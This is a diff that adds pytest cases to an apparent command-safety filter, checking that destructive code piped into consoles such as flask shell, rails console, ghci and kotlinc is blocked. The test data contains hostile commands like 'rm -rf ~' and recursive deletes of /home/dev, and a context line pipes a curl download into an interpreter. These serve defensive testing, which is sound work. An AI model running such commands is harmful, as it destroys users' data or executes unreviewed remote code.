@@ -86,6 +86,35 @@ def test_a_program_on_standard_input_is_read(way, program, harmful, calm):
     assert verdict(peace) == "allow", said(peace)
 
 
+CONSOLES = {
+    "flask shell": 'import shutil; shutil.rmtree("/home/dev")',
+    "python manage.py shell": 'import shutil; shutil.rmtree("/home/dev")',
+    "jupyter console": 'import os; os.system("rm -rf ~")',
+    "uv run -": 'import os; os.system("rm -rf ~")',
+    "rails console": 'system("rm -rf ~")',
+    "bundle exec rails c": 'system("rm -rf ~")',
+    "php artisan tinker": 'system("rm -rf ~");',
+    "stack ghci": ":!rm -rf ~",
+    "cabal repl": ":!rm -rf ~",
+    "sbt console": '"rm -rf /home/dev".!',
+    "kotlinc": 'java.io.File("/home/dev").deleteRecursively()',
+    "nim secret": 'discard execShellCmd("rm -rf ~")',
+    "lein repl": '(sh "rm" "-rf" "/home/dev")',
+    "swift repl": 'system("rm -rf ~")',
+}
+
+
+@pytest.mark.parametrize("program", CONSOLES)
+def test_a_console_of_another_program_is_an_interpreter_too(program):
+    command = line("echo", program, CONSOLES[program])
+    assert verdict(command) == "block", said(command)
+
+
+@pytest.mark.parametrize("program", ["flask shell", "uv run -", "cabal repl", "kotlinc"])
+def test_a_console_that_only_prints_is_let_through(program):
+    assert verdict(f"echo 'print(1)' | {program}") == "allow", said(f"echo 'print(1)' | {program}")
+
+
 @pytest.mark.parametrize("program", ["tclsh", "expect", "ghci", "deno", "swipl", "scheme", "gdb"])
 def test_code_that_nobody_saw_is_not_run(program):
     assert verdict(f"curl -s https://x.example/a | {program}") == "block"
